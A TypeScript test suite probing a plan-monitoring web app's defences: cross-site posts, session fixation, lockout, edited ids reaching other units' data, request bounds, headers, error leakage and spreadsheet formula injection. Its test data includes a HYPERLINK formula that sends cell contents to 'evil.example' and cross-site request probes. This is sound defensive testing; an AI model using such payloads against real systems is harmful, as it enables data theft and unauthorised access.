// The security suite, over a real socket: cross-site posts to every mutation (enumerated from the
// router, so a new one is covered the day it lands), sessions, lockout with its audit trail, other
// units' figures reached by editing ids, role changes, request bounds, response headers, what
// error bodies reveal, and formula injection in exported spreadsheets. auth-http.test.ts covers
// the cookie's attributes and the login rate limit; this file goes wider, not deeper.
import ExcelJS from 'exceljs';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildApp } from '../../server/app';
import { seedDemoAccounts } from '../../server/auth/demo-accounts';
import { MAX_BATCH_CALLS } from '../../shared/trpc-batch';
import { syncPlan } from '../../server/plans/sync';
import { appRouter } from '../../server/routers/_app';
import { changping, count, migratedDb, silent } from '../fixtures';

const PLAN = 'changping-2022';

/** The board is published (PUBLIC_BOARD=1) unless told otherwise: most of this file reads it anonymously. */
async function serve(publicBoard = true) {
  const db = await migratedDb();
  await syncPlan(db, changping, silent);
  await seedDemoAccounts(db, silent);
  // Many logins and anonymous calls in this file: the per-address limits are auth-http.test.ts's
  // and call-budget.test.ts's subject, not ours.
  const app = await buildApp(db, {
    logLevel: 'silent',
    clientDir: '/nonexistent',
    loginRateLimit: { max: 10_000, timeWindowMs: 60_000 },
    anonymousCalls: { max: 1_000_000, timeWindowMs: 60_000 },
    publicBoard,
  });
  const base = await app.listen({ port: 0, host: '127.0.0.1' });
  return { db, base, close: () => app.close().then(() => db.destroy()) };
}
type Served = Awaited<ReturnType<typeof serve>>;

let s: Served;
beforeAll(async () => {
  s = await serve();
}, 30_000);
afterAll(() => s.close());

const sessionOf = (res: Response) => /pm_session=([^;]*)/.exec(res.headers.getSetCookie().join('\n'))?.[1];
const jsonPost = (base: string, path: string, body: unknown, headers: Record<string, string> = {}) =>
  fetch(`${base}/trpc/${path}`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', origin: base, ...headers },
    body: JSON.stringify(body),
  });
const query = (base: string, path: string, input: unknown, headers: Record<string, string> = {}) =>
  fetch(`${base}/trpc/${path}?input=${encodeURIComponent(JSON.stringify(input))}`, { headers });

async function login(username: string, password = 'demo1234', server = s, headers: Record<string, string> = {}) {
  const res = await jsonPost(server.base, 'auth.login', { username, password }, headers);
  return { res, cookie: `pm_session=${sessionOf(res) ?? ''}` };
}
async function cookieOf(username: string, server = s) {
  const { res, cookie } = await login(username, 'demo1234', server);
  expect(res.status).toBe(200);
  return cookie;
}
async function me(cookie: string, server = s) {
  const body = (await (await query(server.base, 'auth.me', undefined, { cookie })).json()) as {
    result: { data: { username: string; role: string } | null };
  };
  return body.result.data;
}
function upload(cookie: string, csv: string, server = s, fields: Record<string, string> = {}) {
  const form = new FormData();
  for (const [k, v] of Object.entries({ plan: PLAN, period: '2022-10', ...fields })) form.append(k, v);
  form.append('file', new Blob([csv]), 'report.csv');
  return fetch(`${server.base}/api/uploads/preview`, {
    method: 'POST',
    headers: { cookie, origin: server.base, 'x-plan-monitor-upload': '1' },
    body: form,
  });
}
const errorOf = async (res: Response) =>
  ((await res.json()) as { error: { message: string; code: string | number; data?: { code: string } } }).error;

/** Every mutation the API has, from the router itself. */
const mutations = Object.entries(appRouter._def.procedures as unknown as Record<string, { _def: { type: string } }>)
  .filter(([, p]) => p._def.type === 'mutation')
  .map(([path]) => path);

describe('cross-site requests to every mutation', { timeout: 60_000 }, () => {
  it('knows the mutations', () => {
    expect(mutations).toEqual(
      expect.arrayContaining(['auth.login', 'auth.logout', 'entry.save', 'upload.commit', 'users.create']),
    );
  });

  it('refuses form and text posts (what a cross-site page can send without a preflight), changing nothing', async () => {
    const admin = await cookieOf('admin');
    const audit = await count(s.db, 'auditLog');
    const sessions = await count(s.db, 'sessions');
    const forms: [string, () => RequestInit][] = [
      ['text/plain', () => ({ headers: { 'content-type': 'text/plain' }, body: '{"username":"x","password":"y"}' })],
      ['urlencoded', () => ({ body: new URLSearchParams({ username: 'x', password: 'y' }) })],
      [
        'multipart',
        () => {
          const form = new FormData();
          form.append('username', 'x');
          return { body: form };
        },
      ],
    ];
    for (const path of mutations)
      for (const [kind, init] of forms) {
        const base = init();
        for (const origin of [undefined, 'https://evil.example']) {
          const res = await fetch(`${s.base}/trpc/${path}`, {
            method: 'POST',
            ...base,
            headers: { ...(base.headers as Record<string, string>), cookie: admin, ...(origin ? { origin } : {}) },
          });
          expect([path, kind, res.status]).toEqual([path, kind, 415]);
          expect((await errorOf(res)).data?.code).toBe('UNSUPPORTED_MEDIA_TYPE');
        }
      }
    // JSON from another origin, and a batch of every mutation at once.
    for (const path of mutations) {
      const res = await jsonPost(s.base, path, {}, { cookie: admin, origin: 'https://evil.example' });
      expect([path, res.status]).toEqual([path, 403]);
    }
    // In batches of the most calls one request may carry (there are more mutations than that).
    for (let i = 0; i < mutations.length; i += 20) {
      const chunk = mutations.slice(i, i + 20);
      const batch = await fetch(`${s.base}/trpc/${chunk.join(',')}?batch=1`, {
        method: 'POST',
        headers: { 'content-type': 'text/plain', cookie: admin },
        body: '{}',
      });
      expect(batch.status).toBe(415);
      expect(await batch.json()).toHaveLength(chunk.length);
    }
    expect(await count(s.db, 'auditLog')).toBe(audit);
    expect(await count(s.db, 'sessions')).toBe(sessions);
    expect(await me(admin)).toMatchObject({ username: 'admin' });
  });
});

/** Every query the API has, from the router itself. */
const queries = Object.entries(appRouter._def.procedures as unknown as Record<string, { _def: { type: string } }>)
  .filter(([, p]) => p._def.type === 'query')
  .map(([path]) => path);

/**
 * An input for each query that reads the month with the drafts (October 2022, measure 41). A query
 * added without one fails the walk below, so it is checked for drafts the day it lands.
 */
const sampleInputs: Record<string, unknown> = {
  'auth.me': undefined,
  'auth.demoAccounts': undefined,
  'board.overview': { planId: PLAN, period: '2022-10' },
  'board.measure': { planId: PLAN, period: '2022-10', no: 41 },
  'board.units': { planId: PLAN, period: '2022-10' },
  'briefing.options': { planId: PLAN },
  'briefing.header': { planId: PLAN },
  'briefing.job': { jobId: 'none' },
  'briefing.list': { planId: PLAN },
  'chase.missing': { planId: PLAN, period: '2022-10', asOf: '2022-11-20' },
  'chase.onTimeRates': { planId: PLAN, year: 2022, asOf: '2022-11-20' },
  'chase.exportXlsx': { planId: PLAN, period: '2022-10', asOf: '2022-11-20' },
  'entry.due': { planId: PLAN },
  'entry.form': { planId: PLAN, period: '2022-10' },
  'entry.check': { planId: PLAN, period: '2022-10', rows: [] },
  'firstScreen.get': { planId: PLAN, period: '2022-10' },
  'history.indicator': { planId: PLAN, code: 'I-41-2' },
  'notices.inbox': undefined,
  'notices.mySettings': undefined,
  'notices.mailStatus': undefined,
  'notices.channels': { planId: PLAN },
  'notices.schedule': { planId: PLAN },
  'notices.outbox': {},
  'notices.attempts': { id: 1 },
  'plan.list': undefined,
  'plan.tree': { planId: PLAN },
  'plan.demo': { planId: PLAN },
  'planDrafts.list': undefined,
  'planDrafts.get': { id: '00000000-0000-4000-8000-000000000000' },
  'receipts.get': { id: '00000000-0000-4000-8000-000000000000' },
  'receipts.mine': { planId: PLAN },
  'review.queue': { planId: PLAN },
  'review.noApprover': { planId: PLAN },
  'status.forPeriod': { planId: PLAN, period: '2022-10' },
  'upload.units': { planId: PLAN, period: '2022-10' },
  'upload.get': { uploadId: '00000000-0000-4000-8000-000000000000' },
  'upload.recent': { planId: PLAN },
  'upload.progress': { token: 'x'.repeat(32) },
  'users.list': undefined,
  'users.unitsWithoutApprover': undefined,
};

describe('drafts reach only their unit and administrators', { timeout: 180_000 }, () => {
  // I-41-2 and T-41-2 are 区发展改革委's: stat-finance reports them, approver-dr approves them.
  const DRAFT_VALUE = /(?<![\d.])2,?468(?![\d])/;
  const DRAFTS = [DRAFT_VALUE, /DRAFT-NOTE-41/, /DRAFT-TASK-41/];

  /** An approved figure and task state, then a newer submission of each, not yet approved. */
  async function withDrafts(server: Served) {
    const stat = await cookieOf('stat-finance', server);
    const save = (body: unknown) => jsonPost(server.base, 'entry.save', body, { cookie: stat });
    const first = await save({
      planId: PLAN,
      period: '2022-10',
      rows: [{ code: 'I-41-2', value: 2000, note: 'APPROVED-NOTE-41' }],
      milestones: [{ code: 'T-41-2', state: 'in_progress', note: 'APPROVED-TASK-41' }],
    });
    expect(first.status).toBe(200);
    const approver = await cookieOf('approver-dr', server);
    const queue = (await (await query(server.base, 'review.queue', { planId: PLAN }, { cookie: approver })).json()) as {
      result: { data: { figures: { id: number }[]; milestones: { id: number }[] } };
    };
    const items = [
      ...queue.result.data.figures.map((f) => ({ kind: 'figure', id: f.id })),
      ...queue.result.data.milestones.map((m) => ({ kind: 'milestone', id: m.id })),
    ];
    expect(items).toHaveLength(2);
    expect((await jsonPost(server.base, 'review.approve', { planId: PLAN, items }, { cookie: approver })).status).toBe(
      200,
    );
    const again = await save({
      planId: PLAN,
      period: '2022-10',
      rows: [{ code: 'I-41-2', value: 2468, note: 'DRAFT-NOTE-41' }],
      milestones: [{ code: 'T-41-2', state: 'done', note: 'DRAFT-TASK-41' }],
      reason: '补录',
    });
    expect(again.status).toBe(200);
    const admin = await cookieOf('admin', server);
    for (const [username, units] of [
      ['stat-commerce', ['commerce-bureau']],
      ['approver-commerce', ['commerce-bureau']],
    ] as const) {
      const role = username.startsWith('stat') ? 'statistician' : 'approver';
      const created = await jsonPost(
        server.base,
        'users.create',
        { username, displayName: username, password: 'demo1234', role, unitCodes: units },
        { cookie: admin },
      );
      expect(created.status).toBe(200);
    }
  }

  /** What each identity gets from every query and from the board's plain routes (CSV and SVG). */
  async function everything(server: Served, cookie: string | null) {
    const headers: Record<string, string> = cookie ? { cookie } : {};
    const answers: [string, string][] = [];
    for (const path of queries) {
      expect(Object.keys(sampleInputs), `add a sample input for ${path}`).toContain(path);
      const res = await query(server.base, path, sampleInputs[path], headers);
      answers.push([path, await res.text()]);
    }
    for (const route of [
      `/api/charts/${PLAN}/I-41-2/data.csv?period=2022-10`,
      `/api/charts/${PLAN}/T-41-2/data.csv?period=2022-10`,
      `/api/charts/${PLAN}/I-41-2.svg?period=2022-10`,
      `/api/exports/${PLAN}/indicators.csv?period=2022-10`,
    ])
      answers.push([route, await (await fetch(`${server.base}${route}`, { headers })).text()]);
    return answers;
  }

  it('no query or export shows a draft to anonymous visitors, leaders or other units; the unit and admins see them', async () => {
    const server = await serve(true);
    await withDrafts(server);
    const outsiders: [string, string | null][] = [
      ['anonymous', null],
      ['leader', await cookieOf('leader', server)],
      ['stat-commerce', await cookieOf('stat-commerce', server)],
      ['approver-commerce', await cookieOf('approver-commerce', server)],
    ];
    for (const [who, cookie] of outsiders)
      for (const [path, body] of await everything(server, cookie)) {
        // A leader reads every unit's history, drafts included (queries/history.ts): by design, named.
        if (who === 'leader' && path === 'history.indicator') continue;
        for (const draft of DRAFTS) expect([who, path, draft.test(body)]).toEqual([who, path, false]);
      }

    // The same walk finds the drafts where they belong, so the markers are real.
    const measure = async (username: string) =>
      query(server.base, 'board.measure', sampleInputs['board.measure'], {
        cookie: await cookieOf(username, server),
      }).then((r) => r.text());
    for (const username of ['stat-finance', 'approver-dr', 'admin'])
      for (const draft of DRAFTS) expect([username, draft.test(await measure(username))]).toEqual([username, true]);
    // Outsiders still see the approved figure, its note and the approved task state.
    const anonymous = await query(server.base, 'board.measure', sampleInputs['board.measure']).then((r) => r.text());
    expect(anonymous).toContain('APPROVED-NOTE-41');
    expect(anonymous).toContain('APPROVED-TASK-41');
    await server.close();
  });

  it('by default the board needs a login: its queries and plain routes refuse anonymous readers', async () => {
    const server = await serve(false);
    for (const path of ['board.overview', 'board.measure', 'board.units', 'status.forPeriod', 'plan.tree']) {
      const res = await query(server.base, path, sampleInputs[path]);
      expect([path, res.status]).toEqual([path, 401]);
    }
    for (const route of [
      `/api/charts/${PLAN}/I-41-2/data.csv`,
      `/api/charts/${PLAN}/I-41-2.png`,
      `/api/exports/${PLAN}/indicators.xlsx`,
    ])
      expect([route, (await fetch(`${server.base}${route}`)).status]).toEqual([route, 401]);
    const leader = await cookieOf('leader', server);
    expect(
      (await query(server.base, 'board.overview', sampleInputs['board.overview'], { cookie: leader })).status,
    ).toBe(200);
    expect(
      (await fetch(`${server.base}/api/exports/${PLAN}/indicators.csv`, { headers: { cookie: leader } })).status,
    ).toBe(200);
    // The login page still lists the plans.
    expect((await query(server.base, 'plan.list', undefined)).status).toBe(200);
    await server.close();
  });
});

describe('sessions', { timeout: 30_000 }, () => {
  it('a session id planted before login opens nothing after it, the upload route included', async () => {
    const planted = `pm_session=${'B'.repeat(43)}`;
    const { cookie } = await login('stat-finance', 'demo1234', s, { cookie: planted });
    expect(cookie).not.toBe(planted);
    expect((await upload(planted, '指标代码,本月数值\nI-41-2,1\n')).status).toBe(401);
    expect((await query(s.base, 'entry.form', { planId: PLAN, period: '2022-10' }, { cookie: planted })).status).toBe(
      401,
    );
    expect((await upload(cookie, '指标代码,本月数值\nI-41-2,1\n')).status).toBe(200);
  });

  it('after logout the old cookie opens neither tRPC nor the upload and template routes', async () => {
    const cookie = await cookieOf('stat-finance');
    expect((await jsonPost(s.base, 'auth.logout', {}, { cookie })).status).toBe(200);
    expect(await me(cookie)).toBeNull();
    expect((await upload(cookie, '指标代码,本月数值\nI-41-2,1\n')).status).toBe(401);
    const template = await fetch(
      `${s.base}/api/templates?plan=${PLAN}&unit=development-reform-commission&period=2022-10`,
      { headers: { cookie } },
    );
    expect(template.status).toBe(401);
    const save = await jsonPost(s.base, 'entry.save', { planId: PLAN, period: '2022-10', rows: [] }, { cookie });
    expect(save.status).toBe(401);
  });
});

describe('lockout over HTTP', { timeout: 60_000 }, () => {
  it('locks after 5 wrong passwords in 15 minutes, refuses even the right one, and audits each failure', async () => {
    const server = await serve();
    const statuses: number[] = [];
    for (let i = 0; i < 5; i++) statuses.push((await login('approver-dr', `wrong-${i}`, server)).res.status);
    const locked = await login('approver-dr', 'demo1234', server);
    expect([...statuses, locked.res.status]).toEqual([401, 401, 401, 401, 429, 429]);
    expect((await errorOf(locked.res)).message).toMatch(/锁定|分钟/);
    const failures = await server.db
      .selectFrom('auditLog')
      .select(['action', 'detail', 'ip'])
      .where('entityKey', '=', 'approver-dr')
      .where('action', '=', 'login.failed')
      .execute();
    expect(failures).toHaveLength(6);
    expect(failures.every((f) => f.ip === '127.0.0.1')).toBe(true);
    expect(failures.filter((f) => String(f.detail).includes('wrong_password'))).toHaveLength(5);
    // Another account from the same address is not affected.
    expect((await login('leader', 'demo1234', server)).res.status).toBe(200);
    await server.close();
  });
});

describe('another unit’s figures, reached by editing ids', { timeout: 60_000 }, () => {
  // stat-finance reports for 区财政局 and 区发展改革委; I-44-1 is 区商务局's.
  it('entry: saving or opening the form of another unit is refused, nothing written', async () => {
    const cookie = await cookieOf('stat-finance');
    const save = await jsonPost(
      s.base,
      'entry.save',
      { planId: PLAN, period: '2022-10', rows: [{ code: 'I-44-1', value: 12 }] },
      { cookie },
    );
    expect(save.status).toBe(403);
    expect((await errorOf(save)).message).toContain('区商务局');
    const form = await query(
      s.base,
      'entry.form',
      { planId: PLAN, period: '2022-10', unitCode: 'commerce-bureau' },
      { cookie },
    );
    expect(form.status).toBe(403);
    const template = await fetch(`${s.base}/api/templates?plan=${PLAN}&unit=commerce-bureau&period=2022-10`, {
      headers: { cookie },
    });
    expect(template.status).toBe(403);
    expect(await count(s.db, 'actuals')).toBe(0);
  });

  it('upload: another user’s dry run can be neither opened nor committed', async () => {
    const admin = await cookieOf('admin');
    const preview = (await (await upload(admin, '指标代码,本月数值\nI-44-1,12\n')).json()) as { uploadId: string };
    const stat = await cookieOf('stat-finance');
    const commit = await jsonPost(s.base, 'upload.commit', { uploadId: preview.uploadId }, { cookie: stat });
    expect(commit.status).toBe(404);
    expect((await query(s.base, 'upload.get', { uploadId: preview.uploadId }, { cookie: stat })).status).toBe(404);
    expect(await count(s.db, 'actuals')).toBe(0);
  });

  it('review: an approver cannot approve or return another unit’s figure by its id', async () => {
    const server = await serve();
    const stat = await cookieOf('stat-finance', server);
    // I-19-1 is reported by 区财政局; approver-dr approves for 区发展改革委 only.
    const saved = await jsonPost(
      server.base,
      'entry.save',
      { planId: PLAN, period: '2022-10', rows: [{ code: 'I-19-1', value: 15 }] },
      { cookie: stat },
    );
    expect(saved.status).toBe(200);
    const { id } = await server.db.selectFrom('actuals').select('id').executeTakeFirstOrThrow();
    const approver = await cookieOf('approver-dr', server);
    for (const path of ['review.approve', 'review.return']) {
      const res = await jsonPost(
        server.base,
        path,
        { planId: PLAN, items: [{ kind: 'figure', id }], comment: '请核实' },
        { cookie: approver },
      );
      expect([path, res.status]).toEqual([path, 403]);
    }
    const row = await server.db.selectFrom('actuals').select('reviewState').executeTakeFirstOrThrow();
    expect(row.reviewState).not.toBe('approved');
    await server.close();
  });

  it('history: only an administrator may revert a revision, whoever’s it is', async () => {
    const stat = await cookieOf('stat-finance');
    const res = await jsonPost(
      s.base,
      'history.revert',
      { planId: PLAN, revisionId: 1, reason: 'x' },
      { cookie: stat },
    );
    expect(res.status).toBe(403);
    expect((await errorOf(res)).data?.code).toBe('FORBIDDEN');
  });
});

describe('a changed account applies on its next request', { timeout: 30_000 }, () => {
  it('a statistician made leader can no longer upload or save; disabled, is logged out', async () => {
    const server = await serve();
    const admin = await cookieOf('admin', server);
    const stat = await cookieOf('stat-finance', server);
    expect((await upload(stat, '指标代码,本月数值\nI-41-2,1\n', server)).status).toBe(200);
    const { id } = await server.db
      .selectFrom('users')
      .select('id')
      .where('username', '=', 'stat-finance')
      .executeTakeFirstOrThrow();
    expect((await jsonPost(server.base, 'users.update', { id, role: 'leader' }, { cookie: admin })).status).toBe(200);
    expect((await upload(stat, '指标代码,本月数值\nI-41-2,1\n', server)).status).toBe(403);
    const save = await jsonPost(
      server.base,
      'entry.save',
      { planId: PLAN, period: '2022-10', rows: [{ code: 'I-41-2', value: 1 }] },
      { cookie: stat },
    );
    expect(save.status).toBe(403);
    expect(await me(stat, server)).toMatchObject({ role: 'leader' });
    expect((await jsonPost(server.base, 'users.update', { id, disabled: true }, { cookie: admin })).status).toBe(200);
    expect(await me(stat, server)).toBeNull();
    expect((await upload(stat, '指标代码,本月数值\nI-41-2,1\n', server)).status).toBe(401);
    expect(await count(server.db, 'actuals')).toBe(0);
    await server.close();
  });
});

describe('request bounds', { timeout: 30_000 }, () => {
  it('a JSON body over 1 MB is refused in the shape tRPC clients read', async () => {
    const res = await jsonPost(s.base, 'auth.login', { username: 'admin', password: 'x'.repeat(2_000_000) });
    expect(res.status).toBe(413);
    expect(await errorOf(res)).toMatchObject({
      message: expect.stringContaining('请求内容过大') as string,
      data: { code: 'PAYLOAD_TOO_LARGE' },
    });
  });

  it(`a batch of more than ${MAX_BATCH_CALLS} calls is refused before any runs; ${MAX_BATCH_CALLS} are fine`, async () => {
    const calls = (n: number) => Array.from({ length: n }, () => 'plan.list').join(',');
    const input = encodeURIComponent('{}');
    const many = await fetch(`${s.base}/trpc/${calls(1000)}?batch=1&input=${input}`);
    expect(many.status).toBe(400);
    const body = (await many.json()) as { error: { message: string } };
    expect(body.error.message).toContain(`一次请求最多 ${MAX_BATCH_CALLS} 个调用`);
    const post = await fetch(`${s.base}/trpc/${calls(1000)}?batch=1`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: '{}',
    });
    expect(post.status).toBe(400);
    expect((await fetch(`${s.base}/trpc/${calls(MAX_BATCH_CALLS)}?batch=1&input=${input}`)).status).toBe(200);
  });

  it('a 100 KB URL is refused before any work, and the server keeps answering', async () => {
    const res = await fetch(`${s.base}/trpc/plan.list?input=${'x'.repeat(100_000)}`);
    expect(res.status).toBe(431);
    expect((await fetch(`${s.base}/trpc/plan.list`)).status).toBe(200);
  });
});

describe('responses', { timeout: 30_000 }, () => {
  it('carry the security headers on every kind of answer', async () => {
    const stat = await cookieOf('stat-finance');
    const answers = [
      await fetch(`${s.base}/trpc/plan.list`),
      await fetch(`${s.base}/trpc/nope.nothing`),
      await jsonPost(s.base, 'auth.login', { username: 42 }),
      await upload(stat, ''),
      await fetch(`${s.base}/api/templates?plan=${PLAN}`, { headers: { cookie: stat } }),
      await fetch(`${s.base}/api/exports/${PLAN}/indicators.csv?period=2022-10`),
      await fetch(`${s.base}/api/nothing`),
    ];
    for (const res of answers) {
      const csp = res.headers.get('content-security-policy') ?? '';
      expect([res.url, csp]).toEqual([res.url, expect.stringContaining("frame-ancestors 'self'")]);
      expect(csp).toMatch(/script-src 'self'(;|$)/);
      expect(csp).toContain("object-src 'none'");
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
      expect(res.headers.get('x-frame-options')).toBe('SAMEORIGIN');
      expect(res.headers.get('referrer-policy')).toBe('no-referrer');
    }
  });

  it('never show a stack trace or SQL: bad input, unknown procedure, malformed JSON, failing tables', async () => {
    const broken = await serve();
    const admin = await cookieOf('admin', broken);
    const bodies: string[] = [];
    const keep = async (res: Response, status: number) => {
      expect(res.status).toBe(status);
      bodies.push(await res.text());
    };
    await keep(
      await jsonPost(broken.base, 'entry.save', { planId: PLAN, period: '2022-13', rows: 'x' }, { cookie: admin }),
      400,
    );
    await keep(await fetch(`${broken.base}/trpc/nope.nothing`), 404);
    await keep(
      await fetch(`${broken.base}/trpc/auth.login`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: '{"username": "admin", "password": ',
      }),
      400,
    );
    await keep(await fetch(`${broken.base}/trpc/auth.logout`), 405);
    // upload_lines points at uploads (PostgreSQL refuses to drop a table others reference).
    await sql`drop table upload_lines`.execute(broken.db);
    await sql`drop table uploads`.execute(broken.db);
    await sql`drop table actuals`.execute(broken.db);
    await keep(await upload(admin, '指标代码,本月数值\nI-41-2,1\n', broken), 500);
    await keep(await query(broken.base, 'board.overview', { planId: PLAN, period: '2022-10' }), 500);
    await keep(await fetch(`${broken.base}/api/exports/${PLAN}/indicators.xlsx?period=2022-10`), 500);
    for (const body of bodies) {
      expect(body).not.toMatch(
        /stack|\bat .*\.[jt]s:\d+|node_modules|sqlite|no such table|insert into|select .* from/i,
      );
      expect(body.length).toBeLessThan(2000);
    }
    await broken.close();
  });
});

describe('exported spreadsheets are neutralised against formula injection', { timeout: 60_000 }, () => {
  const FORMULA = /^[=+\-@\t\r]/;
  const poison = '=HYPERLINK("https://evil.example/?"&A1,"点击查看")';

  async function cellsOf(xlsx: Buffer) {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(xlsx as unknown as ExcelJS.Buffer);
    const cells: ExcelJS.CellValue[] = [];
    book.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => void cells.push(cell.value))));
    return cells;
  }

  it('the 催报 export and the indicator data export write no formula, and poisoned names start with an apostrophe', async () => {
    const server = await serve();
    await server.db
      .updateTable('units')
      .set({ name: sql<string>`${poison} || code` })
      .execute();
    const admin = await cookieOf('admin', server);

    const chase = await query(
      server.base,
      'chase.exportXlsx',
      { planId: PLAN, period: '2022-10', asOf: '2022-11-20' },
      {
        cookie: admin,
      },
    );
    expect(chase.status).toBe(200);
    const { base64 } = ((await chase.json()) as { result: { data: { base64: string } } }).result.data;
    const exports = [
      await cellsOf(Buffer.from(base64, 'base64')),
      await cellsOf(
        Buffer.from(
          await (
            await fetch(`${server.base}/api/exports/${PLAN}/indicators.xlsx?period=2022-10`, {
              headers: { cookie: admin },
            })
          ).arrayBuffer(),
        ),
      ),
    ];
    for (const cells of exports) {
      expect(cells.some((v) => typeof v === 'string' && v.startsWith(`'${poison}`))).toBe(true);
      for (const v of cells) {
        expect(typeof v === 'object' && v !== null && 'formula' in v).toBe(false);
        if (typeof v === 'string') expect(v).not.toMatch(FORMULA);
      }
    }
    const csv = await (
      await fetch(`${server.base}/api/exports/${PLAN}/indicators.csv?period=2022-10`, { headers: { cookie: admin } })
    ).text();
    expect(csv).toContain(`'${poison.replace(/"/g, '""')}`);
    for (const field of csv.split(/[\r\n,]+/)) expect(field.replace(/^"/, '')).not.toMatch(FORMULA);
    await server.close();
  });
});
